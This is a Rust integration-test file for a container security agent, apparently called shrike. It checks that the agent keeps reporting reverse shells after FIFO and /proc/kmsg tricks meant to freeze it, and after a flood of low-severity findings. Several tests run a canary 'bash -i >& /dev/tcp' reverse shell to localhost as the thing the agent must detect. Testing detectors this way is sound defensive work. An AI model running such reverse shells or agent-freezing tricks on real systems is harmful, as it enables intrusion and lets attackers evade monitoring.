//! Privileged: what a container does to the files the agent reads cannot freeze it. In real CRI
//! pods, Python is pointed at a FIFO nobody writes to and at `/proc/kmsg` (a "regular file" whose
//! read blocks), and the configuration given to the agent is a FIFO or `/dev/zero`. After each
//! trick a canary reverse shell from the same pod must still be reported, within seconds, and
//! the health endpoint must answer.

#[path = "common/agent.rs"]
mod agent;
mod common;
#[path = "common/containerd.rs"]
mod containerd;

use std::{
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use agent::{http_get, listen, start_agent};
use common::privileged;
use containerd::{Containerd, PodSpec};
use serde_json::Value;

const SHRIKE: &str = env!("CARGO_BIN_EXE_shrike");

fn reverse_shells<'a>(findings: &'a [Value], pod: &str) -> Vec<&'a Value> {
    findings
        .iter()
        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == pod && f["finding"]["category"] == "Reverse Shell")
        .collect()
}

#[tokio::test(flavor = "current_thread")]
async fn files_a_container_controls_cannot_freeze_the_agent() {
    if !privileged("files_a_container_controls_cannot_freeze_the_agent") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("hardening");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "hard", &ctrd.socket, false);
    // Each trick runs in the background of its pod; 3 s later the pod's canary reverse shell
    // calls a listener of ours, which checks that the shell really answered.
    let tricks = [
        ("fifo-script", "mkfifo /tmp/job.py; python3 /tmp/job.py"),
        ("kmsg-script", "python3 /proc/kmsg"),
        ("fifo-relative", "mkdir -p /w && cd /w && mkfifo run.py && python3 run.py"),
    ];
    for (pod, trick) in tricks {
        let l = listen("id; exit\n");
        let cmd = format!("({trick}) >/dev/null 2>&1 & sleep 3; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", l.port);
        let started = Instant::now();
        let running = ctrd.run_pod(&PodSpec::new(pod, &["/bin/bash", "-c", &cmd])).await;
        let answer = l.thread.join().unwrap();
        assert!(answer.contains("uid="), "{pod}: the canary shell ran: {answer:?}");
        let deadline = started + Duration::from_secs(20);
        while reverse_shells(&agent.findings(), pod).is_empty() {
            assert!(Instant::now() < deadline, "{pod}: the canary reverse shell after `{trick}` was not reported; findings {:#?}", agent.findings());
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let health_start = Instant::now();
        let health = http_get(&agent.metrics, "/healthz");
        assert!(health.contains(" 200 ") && health_start.elapsed() < Duration::from_secs(2), "{pod}: /healthz after the trick: {health}");
        println!("{pod}: canary reported {:?} after the pod started", started.elapsed());
        ctrd.remove_pod(&running).await;
    }
    let (_, log) = agent.stop();
    assert!(log.contains("shrike stopped"), "{log}");
    ctrd.stop();
}

/// A flood of LOW findings (40 compiler runs, over the 30-a-minute rate limit of a container)
/// cannot bury the CRITICAL reverse shell that follows it in the same pod.
#[tokio::test(flavor = "current_thread")]
async fn a_flood_of_low_findings_cannot_bury_a_reverse_shell() {
    if !privileged("a_flood_of_low_findings_cannot_bury_a_reverse_shell") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("flood");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "flood", &ctrd.socket, false);
    let l = listen("id; exit\n");
    let cmd = format!(
        "for i in $(seq 40); do echo 'int main(void){{return 0;}}' | gcc -x c -o /tmp/a$i - || exit 9; done; exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1",
        l.port
    );
    let started = Instant::now();
    let pod = ctrd.run_pod(&PodSpec::new("flooder", &["/bin/bash", "-c", &cmd])).await;
    assert!(l.thread.join().unwrap().contains("uid="), "the shell after the flood ran");
    let deadline = started + Duration::from_secs(60);
    while reverse_shells(&agent.findings(), "flooder").is_empty() {
        assert!(Instant::now() < deadline, "the reverse shell after 40 compiler runs was not reported: {:#?}", agent.findings());
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let compilers = agent
        .findings()
        .iter()
        .filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == "flooder" && f["finding"]["category"] == "Defense Evasion: Launch Code Compiler Tool In Container")
        .count();
    // The flood really met the limit: 30 compiler findings out (and one more for the token that
    // refills every 2 s of the flood), the rest counted.
    assert!((30..40).contains(&compilers), "compiler findings of the flood: {compilers}");
    ctrd.remove_pod(&pod).await;
    let _ = agent.stop();
    ctrd.stop();
}

/// Kernel events lost to a full ring buffer reach the log, not only the metrics: the agent is
/// stopped (SIGSTOP) while processes exec, so its 64 KiB ring buffer fills.
#[test]
fn ring_buffer_losses_reach_the_log() {
    if !privileged("ring_buffer_losses_reach_the_log") {
        return;
    }
    let dir = std::env::temp_dir().join(format!("shrike-hardening-loss-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let spec = agent::AgentSpec {
        name: "loss",
        socket: None,
        host_scope: true,
        extra_config: "[sensor]\nring_buffer_bytes = 65536\n".into(),
        args: Vec::new(),
    };
    let a = agent::start(&dir, &spec);
    // SAFETY: signalling the agent we started, by its pid.
    unsafe { libc::kill(a.pid as i32, libc::SIGSTOP) };
    let out = Command::new("/bin/sh").args(["-c", "i=0; while [ $i -lt 400 ]; do /bin/true; i=$((i+1)); done"]).output().unwrap();
    // SAFETY: as above.
    unsafe { libc::kill(a.pid as i32, libc::SIGCONT) };
    assert!(out.status.success());
    std::thread::sleep(Duration::from_secs(3));
    let metrics = http_get(&a.metrics, "/metrics");
    let lost = agent::metric(&metrics, "shrike_ringbuf_dropped_total");
    let (_, log) = a.stop();
    assert!(lost > 0.0, "the ring buffer overflowed:\n{metrics}");
    assert!(log.contains("kernel events lost") && log.contains("WARN"), "the loss is in the log:\n{log}");
    std::fs::remove_dir_all(&dir).unwrap();
}

/// `--config` naming a FIFO (nobody writes to it) or `/dev/zero` is refused at once, naming the
/// file, instead of hanging or filling memory.
#[test]
fn a_fifo_or_device_as_configuration_is_refused_at_once() {
    let dir = std::env::temp_dir().join(format!("shrike-hardening-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let fifo = dir.join("shrike.toml");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: a valid path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    for config in [fifo.as_path(), Path::new("/dev/zero")] {
        let start = Instant::now();
        let out = Command::new(SHRIKE).args(["doctor", "--config"]).arg(config).stdin(Stdio::null()).output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{}: accepted", config.display());
        assert!(err.contains(&format!("{}: not a regular file", config.display())), "{}: {err}", config.display());
        assert!(start.elapsed() < Duration::from_secs(5), "{}: took {:?}", config.display(), start.elapsed());
    }
    std::fs::remove_dir_all(&dir).unwrap();
}
